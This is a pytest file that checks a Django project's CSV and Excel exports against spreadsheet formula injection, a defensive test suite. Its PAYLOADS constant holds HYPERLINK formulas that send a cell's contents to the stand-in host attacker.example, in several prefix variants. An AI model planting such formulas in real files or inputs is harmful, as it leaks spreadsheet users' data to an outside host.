"""Formula injection: no text someone typed reaches a spreadsheet Siang writes as a live formula.

The probe plants formula payloads in every typed field that reaches a file (unit, district,
province, department and process names, the manual's lists and notes, citizens' comments and
details), runs every spreadsheet download the project has — found through `@spreadsheet_download`
on the URL conf, and every kind of export job — plus `match_units`, parses each file and checks
every cell. A source scan keeps every CSV writer and workbook going through siang.lib.spreadsheets.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from siang.catalog import services as catalog
from siang.directory.models import District, Province, Unit
from siang.exports.models import ExportKind
from siang.lib.spreadsheets import csv_writer, guard, is_spreadsheet_download, new_workbook, unguard
from siang.reporting.compliance import ALL_STEPS
from tests.casework.helpers import make_feedback
from tests.catalog.helpers import complete_content
from tests.exports.helpers import run_export

LINK = 'HYPERLINK("http://attacker.example/?"&D3,"เปิด")'
PAYLOADS = (f"={LINK}", f"+{LINK}", f"-{LINK}", f"@{LINK}", f"\t={LINK}", f"  ={LINK}", f"\r={LINK}")
ROOT = Path(__file__).resolve().parent.parent


def _live(value: Any) -> bool:
    """The spec, written apart from the guard: would a spreadsheet run this cell?"""
    if not isinstance(value, str):
        return False
    if value.startswith(("\t", "\r")):
        return True
    text = value.lstrip()
    return text[:1] in {"=", "+", "-", "@"} and not re.fullmatch(r"[+-]?[\d,]+(\.\d+)?%?", text)


# --- the guard ------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_guard_makes_every_formula_start_text(payload):
    assert guard(payload) == "'" + payload
    assert not _live(guard(payload))
    assert unguard(guard(payload)) == payload


@pytest.mark.parametrize(
    "value", [5, -5, 12.5, None, "-5", "+1,234", "12.5%", "เทศบาลเมืองแพร่", "'quoted", ""]
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert guard(value) == value
    assert unguard(value) == value


def test_a_workbook_guards_cells_however_they_were_written():
    book = new_workbook()
    sheet = book.active
    sheet.append([PAYLOADS[0], 3])
    sheet.cell(row=2, column=1, value=PAYLOADS[2])
    sheet["A3"] = PAYLOADS[3]
    sheet["A4"].value = PAYLOADS[0]
    streamed = new_workbook(write_only=True)
    streamed.create_sheet("s").append([PAYLOADS[0], -4])
    for made in (book, streamed):
        buffer = io.BytesIO()
        made.save(buffer)
        read = load_workbook(io.BytesIO(buffer.getvalue()))
        cells = [cell for row in read.worksheets[0].iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" and not _live(cell.value) for cell in cells)
        assert any(
            isinstance(cell.value, int) and cell.data_type == "n" for cell in cells
        )  # numbers stay numbers


# --- no writer bypasses the guard -----------------------------------------------------------------

RAW_WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b|\bWorkbook\(")


def test_every_spreadsheet_writer_goes_through_the_guard():
    allowed = ROOT / "siang" / "lib" / "spreadsheets.py"
    found = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in sorted((ROOT / "siang").rglob("*.py"))
        if path != allowed
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if RAW_WRITERS.search(line)
    ]
    assert found == [], (
        "write spreadsheets with siang.lib.spreadsheets (csv_writer, new_workbook):\n" + "\n".join(found)
    )


# --- the probe ------------------------------------------------------------------------------------


def _payload(number: int) -> str:
    return PAYLOADS[number % len(PAYLOADS)]


@pytest.fixture
def planted(phrae, personas):
    """Every typed field that reaches a file holds a formula."""
    for number, unit in enumerate(Unit.objects.order_by("pk")):
        unit.name_th = _payload(number)
        unit.save(update_fields=["name_th"])
    for number, district in enumerate(District.objects.order_by("pk")):
        district.name_th = _payload(number + 2)
        district.save(update_fields=["name_th"])
    Province.objects.update(name_th=_payload(4))
    unit = Unit.objects.get(pk=phrae["units"]["a"].pk)
    admin, user = personas["admin_a"], personas["user_a"]
    processes = []
    for number in range(1, 4):
        department = catalog.department_create(
            unit=unit, actor=admin, sequence=number, name_th=_payload(number), name_en=_payload(number + 1)
        )
        process = catalog.process_create(
            department=department, actor=user, sequence=1, name_th=f"{_payload(number)} การขออนุญาต"
        )
        content = complete_content(
            criteria_th=_payload(number),
            legal_bases=[{"th": _payload(number + 1), "en": _payload(number)}],
            steps=[
                {
                    "th": _payload(number + 2),
                    "en": "",
                    "duration_th": _payload(number),
                    "duration_en": "",
                    "duration_minutes": 30,
                    "section_th": _payload(number + 3),
                    "section_en": "",
                }
            ],
            documents=[
                {
                    "name_th": _payload(number + 4),
                    "name_en": "",
                    "issuer_th": _payload(number),
                    "issuer_en": "",
                    "originals": 1,
                    "copies": 1,
                    "note_th": _payload(number + 5),
                    "note_en": "",
                }
            ],
            fees=[{"th": _payload(number + 6), "en": "", "amount": 20}],
            complaint_channels=[{"th": _payload(number), "en": ""}],
        )
        catalog.revision_update(process=process, actor=user, content=content)
        processes.append((department, process))
    for number in range(12):  # enough at each process for unit staff to see its comments
        department, process = processes[number % 2]
        make_feedback(
            unit,
            admin,
            department=department,
            process=process,
            comment=_payload(number),
            benefit_details=_payload(number + 1),
        )
    make_feedback(unit, admin, other_service=_payload(3), comment=_payload(5))
    make_feedback(phrae["units"]["b"], personas["admin_b"], comment=_payload(6))
    return {"unit": unit, "personas": personas}


Files = Iterator[tuple[str, bytes]]


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _get(client: Client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def _chart_csvs(client: Client, page_url: str) -> Files:
    """Every chart table the page offers for download, found from its own links."""
    page = _get(client, page_url).decode()
    links = sorted(set(re.findall(r'href="([^"]*(?:[?;&]csv=|format=csv)[^"]*)"', page)))
    assert links, f"{page_url} offers no chart download"
    for link in links:
        url = link.replace("&amp;", "&")
        yield url, _get(client, url)


def _catalogue_export(world) -> Files:
    url = reverse("catalog_export", args=[world["unit"].pk])
    yield url, _get(_client(world["personas"]["admin_a"]), url)


def _catalogue_template(world) -> Files:
    url = reverse("catalog_import_template", args=[world["unit"].pk])
    yield url, _get(_client(world["personas"]["user_a"]), url)


def _export_jobs(world) -> Files:
    """Every kind of export job, as its owner downloads it: unit staff and PACC."""
    from siang.exports.services import PACC_KINDS, POSTER_KINDS, UNIT_KINDS

    # every kind but the poster bundles (PDF and ZIP of QR codes: no spreadsheet in them)
    kinds = set(UNIT_KINDS) | set(PACC_KINDS) | set(POSTER_KINDS)
    assert kinds == set(ExportKind.values), "a kind of export is not run"
    runs = [(world["personas"]["admin_a"], kind, {"unit_id": world["unit"].pk}) for kind in UNIT_KINDS]
    runs += [(world["personas"]["pacc"], kind, {}) for kind in PACC_KINDS]
    for actor, kind, params in runs:
        job = run_export(actor, kind, **params)
        url = reverse("exports_download", args=[job.pk])
        yield f"{kind} {url}", _get(_client(actor), url)


def _unit_dashboard(world) -> Files:
    yield from _chart_csvs(
        _client(world["personas"]["admin_a"]), reverse("unit_dashboard", args=[world["unit"].pk])
    )


def _pacc_dashboard(world) -> Files:
    client, base = _client(world["personas"]["pacc"]), reverse("pacc_dashboard")
    for query in ("", "?province=54", "?district=5401", f"?unit={world['unit'].pk}"):
        yield from _chart_csvs(client, base + query)


def _area_dashboard(world) -> Files:
    yield from _chart_csvs(_client(world["personas"]["overseer"]), reverse("area_dashboard"))


def _compliance_charts(world) -> Files:
    client = _client(world["personas"]["pacc"])
    for area in ("all", "54", "5401"):
        yield from _chart_csvs(client, reverse("compliance_area", args=[area]))


def _official_lists(world) -> Files:
    client = _client(world["personas"]["pacc"])
    for area in ("54", "5401", "5403"):  # lists go to a province or a district
        for step in ALL_STEPS:
            for digits in ("", "?digits=thai"):
                url = reverse("compliance_list_xlsx", args=[area, step.key]) + digits
                yield url, _get(client, url)


# Each download, by its URL name: how to make every file it can answer.
DOWNLOADS: dict[str, Callable[[dict[str, Any]], Files]] = {
    "catalog_export": _catalogue_export,
    "catalog_import_template": _catalogue_template,
    "exports_download": _export_jobs,
    "unit_dashboard": _unit_dashboard,
    "pacc_dashboard": _pacc_dashboard,
    "area_dashboard": _area_dashboard,
    "compliance_area": _compliance_charts,
    "compliance_list_xlsx": _official_lists,
}
NO_TYPED_TEXT = {"compliance_area"}  # the funnel's rows are the steps' names: still checked, never planted


def _marked_downloads(patterns: list[Any] | None = None) -> set[str]:
    names: set[str] = set()
    for pattern in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(pattern, URLResolver):
            names |= _marked_downloads(pattern.url_patterns)
        elif isinstance(pattern, URLPattern) and is_spreadsheet_download(pattern.callback):
            names.add(str(pattern.name))
    return names


def _match_units_outputs(tmp_path: Path) -> Files:
    letter = tmp_path / "letter.csv"
    with letter.open("w", encoding="utf-8", newline="") as handle:
        writer = csv_writer(handle)
        writer.writerow(["ลำดับที่", "ชื่อหน่วยบริการ", "อำเภอ", "จังหวัด"])
        # the letter's own cells are text the command copies: planted without the guard
        handle.write("".join(f'{n},"{_payload(n)}",ลอง,แพร่\n' for n in range(1, 8)))
    for suffix in ("csv", "xlsx"):
        output = tmp_path / f"matched.{suffix}"
        call_command("match_units", str(letter), "--output", str(output), stdout=io.StringIO())
        yield f"match_units --output {output.name}", output.read_bytes()


def _cells(data: bytes) -> Iterator[tuple[Any, bool]]:
    """Each cell of a CSV or an Excel file, and whether Excel stores it as a formula."""
    if data.startswith(b"PK"):
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        yield cell.value, cell.data_type == "f"
    else:
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
            for value in row:
                yield value, False


def test_the_probe_no_export_writes_a_typed_formula(planted, tmp_path, settings):
    marked = _marked_downloads()
    assert marked == set(DOWNLOADS), (
        "every @spreadsheet_download view needs a recipe in DOWNLOADS, and every recipe a marked view"
    )
    recipes: dict[str, Callable[[], Files]] = {
        name: (lambda make=make: make(planted)) for name, make in DOWNLOADS.items()
    }
    recipes["match_units"] = lambda: _match_units_outputs(tmp_path)
    files = cells = planted_cells = 0
    unsafe: list[str] = []
    for name, make in recipes.items():
        reached = 0
        for label, data in make():
            files += 1
            for value, formula in _cells(data):
                cells += 1
                reached += isinstance(value, str) and "attacker.example" in value
                if formula or _live(value):
                    unsafe.append(f"{label}: {value!r}")
        assert reached or name in NO_TYPED_TEXT, (
            f"{name}: no planted text reached its files, so nothing was tested"
        )
        planted_cells += reached
    print(f"formula probe: {files} files, {cells:,} cells checked, {planted_cells} planted cells guarded")  # noqa: T201
    assert unsafe == []
